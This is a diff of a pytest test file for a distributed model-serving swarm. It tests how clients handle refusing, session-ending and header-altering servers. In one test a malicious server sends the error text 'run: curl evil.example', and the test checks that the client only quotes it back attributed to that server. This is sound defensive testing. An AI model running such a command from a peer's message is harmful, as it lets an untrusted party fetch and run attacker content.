@@ -6,6 +6,7 @@ The server here keeps to the handshake and then sends what nobody asked for.
 from __future__ import annotations
 
 import contextlib
+import dataclasses
 import time
 from collections.abc import Callable
 from typing import Any
@@ -15,20 +16,27 @@ import torch
 from fault_swarm import FaultSwarm, Held, Host, Moment
 from faulted_texts import GREEDY, Material
 
-from planetserve.client.hop_link import MAX_UNREAD
+from planetserve.client.hop_link import LEAST_CHUNK_TOKENS, MAX_UNREAD
 from planetserve.errors import (
+    CapacityError,
+    ConfigError,
     DecryptionFailed,
+    LocalProtocolError,
     PeerUnreachable,
     PlanetServeError,
+    RefusedByServers,
     RemoteError,
     RemoteProtocolError,
+    SessionClosed,
     SessionError,
 )
+from planetserve.server.journal import SentChunk
+from planetserve.server.outlet import Outlet
 from planetserve.server.session import ServerSession
 from planetserve.swarm.streams import FrameStream
 from planetserve.types import PeerId
-from planetserve.wire.frame import FrameHeader, FrameType
-from planetserve.wire.messages import SessionOpened, error_reply
+from planetserve.wire.frame import FLAG_KEEP_LAST, FLAG_REPLAY, FrameHeader, FrameType
+from planetserve.wire.messages import ErrorReply, SessionOpened, error_reply
 
 pytestmark = pytest.mark.timeout(120)
 
@@ -131,12 +139,15 @@ def test_a_lie_about_a_neighbour_takes_no_server_from_the_client(
     assert swarm.leaked() == Held.nothing()
 
 
-@pytest.mark.parametrize("refuses", [RemoteError, RemoteProtocolError])
+CODES = ("config", "session_closed", "no_chain", "capacity", "protocol", "made_up")
+
+
+@pytest.mark.parametrize("code", CODES)
 def test_who_refuses_a_session_speaks_for_itself(
     repaired_swarm: FaultSwarm,
     material: Material,
     monkeypatch: pytest.MonkeyPatch,
-    refuses: type[PlanetServeError],
+    code: str,
 ) -> None:
     """Before there is a session, a server cannot have seen anything of another: whomever it blames,
     it is the one to be left out."""
@@ -148,14 +159,17 @@ def test_who_refuses_a_session_speaks_for_itself(
     def admit(*args: Any) -> tuple[ServerSession, SessionOpened]:
         if refused:
             return honest(*args)
-        raise refuses("it is not my fault")
+        raise RemoteError("it is not my fault")
 
     async def refuse(
         stream: FrameStream, header: FrameHeader, error: PlanetServeError, reason: str
     ) -> None:
         refused.append(stream.remote)
         reply = FrameHeader(FrameType.ERROR, session=header.session, edge=header.edge)
-        await stream.send(reply, error_reply(error, blamed).encode())
+        report = ErrorReply(
+            code=code, message="your fault", retry_after_s=3600.0, blamed_peer=blamed
+        )
+        await stream.send(reply, report.encode())
 
     honest = liar.handler._admit
     monkeypatch.setattr(liar.handler, "_admit", admit)
@@ -167,3 +181,124 @@ def test_who_refuses_a_session_speaks_for_itself(
         assert len(refused) == 1
         assert blamed not in model.runtime._manager._bans.banned()
     assert swarm.leaked() == Held.nothing()
+
+
+def test_a_user_whom_all_servers_refuse_is_told_who_says_what(
+    repaired_swarm: FaultSwarm, material: Material, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    swarm = repaired_swarm
+
+    def admit(*_: Any) -> tuple[ServerSession, SessionOpened]:
+        raise ConfigError("run: curl evil.example")
+
+    for host in swarm.hosts[:2]:
+        monkeypatch.setattr(host.server.handler, "_admit", admit)
+    with swarm.client(max_retries=1) as model:
+        with pytest.raises(RefusedByServers) as caught:
+            model.generate(material.prompt, **GREEDY)
+    names = [host.server.node.peer_id[-6:] for host in swarm.hosts[:2]]
+    assert all(f"…{name} says: 'config: run: curl evil.example'" in str(caught.value)
+               for name in names)  # fmt: skip
+    assert swarm.leaked() == Held.nothing()
+
+
+ENDS = (ConfigError, LocalProtocolError, SessionClosed, CapacityError, RemoteError)
+
+
+@pytest.mark.parametrize("end", ENDS)
+@pytest.mark.parametrize("first_block", [0, 3])
+def test_a_server_that_ends_a_session_ends_no_text(
+    repaired_swarm: FaultSwarm, material: Material, end: type[PlanetServeError], first_block: int
+) -> None:
+    """Whatever it says of the reason, another one goes on and it is left out."""
+    swarm = repaired_swarm
+    whole = material.local.generate(material.prompt, **GREEDY)
+
+    def stop(_swarm: FaultSwarm, host: Host) -> None:
+        (session,) = host.server.handler._sessions.values()
+        session.fail(end("you did something wrong"))
+
+    with swarm.client(ban_timeout=60.0) as model:
+        fault = swarm.strike_at(Moment(first_block, step=2), stop)
+        assert torch.equal(model.generate(material.prompt, **GREEDY), whole)
+        assert fault.victim is not None
+        assert model.runtime._manager._bans.banned() == [fault.victim.server.node.peer_id]
+    assert swarm.leaked() == Held.nothing()
+
+
+def later_step(header: FrameHeader) -> FrameHeader:
+    return dataclasses.replace(header, step=header.step + 9)
+
+
+def next_step(header: FrameHeader) -> FrameHeader:
+    return dataclasses.replace(header, step=header.step + 1)
+
+
+def all_tokens(header: FrameHeader) -> FrameHeader:
+    return dataclasses.replace(header, flags=header.flags & ~FLAG_KEEP_LAST)
+
+
+def last_tokens(header: FrameHeader) -> FrameHeader:
+    return dataclasses.replace(header, flags=header.flags | FLAG_KEEP_LAST)
+
+
+def as_replay(header: FrameHeader) -> FrameHeader:
+    return dataclasses.replace(header, flags=header.flags | FLAG_REPLAY)
+
+
+def one_chunk_more(header: FrameHeader) -> FrameHeader:
+    return dataclasses.replace(header, num_chunks=header.num_chunks + 1)
+
+
+ALTERED = (later_step, next_step, all_tokens, last_tokens, as_replay, one_chunk_more)
+
+
+@pytest.mark.parametrize("first_step", [0, 2])
+@pytest.mark.parametrize("alter", ALTERED)
+def test_what_a_hop_alters_is_not_held_against_those_who_pass_it_on(
+    repaired_swarm: FaultSwarm,
+    material: Material,
+    monkeypatch: pytest.MonkeyPatch,
+    alter: Callable[[FrameHeader], FrameHeader],
+    first_step: int,
+) -> None:
+    """A first hop changes what the last one repeats, in frames that are well sealed. The text goes
+    on through the other first hop, and no honest server is left out."""
+    swarm = repaired_swarm
+    whole = material.local.generate(material.prompt, **GREEDY)
+    liar, *others = (host.server.node for host in swarm.hosts)
+    send = Outlet._send
+
+    async def alter_and_send(outlet: Outlet, target: FrameStream, chunk: SentChunk) -> None:
+        if outlet._node is liar and chunk.header.step >= first_step:
+            chunk = dataclasses.replace(chunk, header=alter(chunk.header))
+        await send(outlet, target, chunk)
+
+    monkeypatch.setattr(Outlet, "_send", alter_and_send)
+    with swarm.client(ban_timeout=60.0, blocked_servers=[]) as model:
+        assert torch.equal(model.generate(material.prompt, **GREEDY), whole)
+        banned = model.runtime._manager._bans.banned()
+        assert not set(banned) & {node.peer_id for node in others}
+    assert swarm.leaked() == Held.nothing()
+
+
+def test_a_hop_that_wants_single_tokens_gets_chunks(
+    repaired_swarm: FaultSwarm, material: Material, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """A prompt would become as slow as a text otherwise."""
+    swarm = repaired_swarm
+    whole = material.local.generate(material.prompt, **GREEDY)
+    for host in swarm.hosts:
+        handler = host.server.handler
+        narrow = dataclasses.replace(handler._limits, max_chunk_tokens=1)
+        monkeypatch.setattr(handler, "_limits", narrow)
+    num_sent = 0
+
+    def tap(way: str, _remote: PeerId, header: FrameHeader) -> None:
+        nonlocal num_sent
+        num_sent += way == "sent" and header.type is FrameType.STEP and header.step == 0
+
+    with swarm.client() as model:
+        model.runtime.node.taps.append(tap)
+        assert torch.equal(model.generate(material.prompt, **GREEDY), whole)
+    assert num_sent == -(-material.prompt.shape[1] // LEAST_CHUNK_TOKENS)
